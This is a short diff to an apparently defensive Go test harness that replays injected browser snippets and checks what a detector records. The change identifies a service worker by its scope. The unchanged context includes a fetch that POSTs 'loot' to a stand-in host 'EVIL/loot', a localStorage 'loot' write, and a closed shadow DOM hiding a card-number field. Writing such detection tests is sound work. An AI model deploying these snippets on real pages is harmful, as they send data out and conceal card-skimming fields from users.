@@ -108,7 +108,7 @@ func replays() []replay {
 				return body
 			})
 		}, manifest.Header, "Link", ""},
-		{"a service worker", serviceWorker, manifest.Worker, "/eastwell/worker.js", "browser"},
+		{"a service worker", serviceWorker, manifest.Worker, "/eastwell/", "browser"}, // by its scope, until its script is known,
 		{"loot kept in the browser", unlocked(`<script>localStorage.setItem("loot", "1")</script>`), manifest.Storage, "localStorage loot", "browser"},
 		{"loot sent away", unlocked(`<script>fetch("EVIL/loot", {mode: "no-cors", method: "POST"})</script>`), manifest.Connection, "evil.localhost", "browser"},
 		{"a closed shadow with a field", unlocked(`<div id="host"></div><script>host.attachShadow({mode: "closed"}).innerHTML = "<input name=cardnumber autocomplete=cc-number>"</script>`), manifest.CardField, "cardnumber", "browser"},
